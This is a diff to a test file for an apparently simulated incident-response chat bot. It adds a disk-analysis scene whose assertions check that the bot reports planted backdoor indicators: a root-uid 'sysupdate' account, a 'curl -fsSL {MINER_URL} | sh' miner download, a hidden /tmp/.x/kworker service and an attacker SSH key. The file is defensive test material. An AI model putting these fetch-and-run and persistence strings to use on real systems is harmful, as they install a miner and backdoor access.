@@ -39,12 +39,26 @@ def test_demo_prints_the_transcript_and_exits_0_whatever_the_shell_has_set():
         assert re.search(r"alice: /ir memory \w+@127\.0\.0\.1:\d+", out)
         assert "1 of 1 target ended" in out and "— complete · 32.0 MiB of 32.0 MiB · sha256 `" in out
         assert re.search(r"↳ in thread: irbot: Memory capture for @alice", out)
-        # 8 from collect, the isolation record and its per-target copy, hunt-key's findings, the image, its chain of custody,
-        # prep's readiness result, the final report kept at close, and the member account's isolation record and its copy.
-        assert "Evidence bucket s3://irbot-demo-evidence: 17 evidence objects, 17 of them match their sha256 metadata." in out
     else:
         assert "(No memory scene: no OpenSSH server on this machine" in out
-        assert "Evidence bucket s3://irbot-demo-evidence: 15 evidence objects, 15 of them match their sha256 metadata." in out
+    from standins.disk_images import ATTACKER_KEY, MINER_URL, mkfs_ext4
+
+    if mkfs_ext4():
+        # The disk scene: web-1's snapshot imaged, then analysed in place; the card names the planted backdoor.
+        assert re.search(r"Done: `/ir image i-[0-9a-f]{17}` in 123456789012, us-east-1, for @alice: 2 steps: 2 done", out)
+        card = re.search(r"irbot: Done: `/ir analyze i-[0-9a-f]{17} --since 2025-03-09` .* — \d+ findings on 1 image \[4 of its \d+ lines shown\]\n"
+                         r"((?: {8}.*\n){4})", out)
+        assert card, "no analysis card"
+        for planted in ("`sysupdate:x:0:0:", f"curl -fsSL {MINER_URL} | sh", "ExecStart=/tmp/.x/kworker", ATTACKER_KEY.split()[-1]):
+            assert planted in card[1], (planted, card[1])
+        assert "imaged, analyzed" in out
+    else:
+        assert "(No disk-analysis scene: mkfs.ext4 is not installed" in out
+    # 8 from collect, the isolation record and its per-target copy, hunt-key's findings,
+    # prep's readiness result, the final report kept at close, and the member account's isolation record and its copy;
+    # the memory image and its custody; the disk image, its custody, its analysis and its Timesketch timeline.
+    evidence = 15 + (2 if find_sshd() else 0) + (4 if mkfs_ext4() else 0)
+    assert f"Evidence bucket s3://irbot-demo-evidence: {evidence} evidence objects, {evidence} of them match their sha256 metadata." in out
     # The two-person rule: alice's own approval is refused, bob's runs the stop.
     assert "alice: [clicks Approve" in out
     assert re.search(r"Done: `/ir isolate i-[0-9a-f]{17}` in 123456789012, us-east-1, requested by @alice", out)
@@ -87,6 +101,8 @@ def test_demo_prints_the_transcript_and_exits_0_whatever_the_shell_has_set():
     assert '"level"' not in out and "Traceback" not in result.stderr
     # Quieter than before threads (338 lines, 30 top-level messages for the same story): at least a third shorter.
     # The lines allow 15 more for the /ir prep scene (title, command, card with 3 failing checks, its thread folded to
-    # 4 lines, the pinned card's update) added after that count; the top-level messages stay within the third.
+    # 4 lines, the pinned card's update) added after that count, and 15 for the disk scene (title, /ir image and /ir analyze
+    # with their private replies, the analysis card's headline and 4 of its lines, each thread folded to a line, the
+    # pinned card's two updates); the top-level messages stay within the third.
     top_level = [line for line in out.splitlines() if re.match(r"\[\d\d:\d\d\] irbot( in #\S+)?: (?!\((creates|pins|uploads) )", line)]
-    assert len(out.splitlines()) <= 338 * 2 // 3 + 15 and len(top_level) <= 30 * 2 // 3, (len(out.splitlines()), len(top_level))
+    assert len(out.splitlines()) <= 338 * 2 // 3 + 15 + 15 and len(top_level) <= 30 * 2 // 3, (len(out.splitlines()), len(top_level))
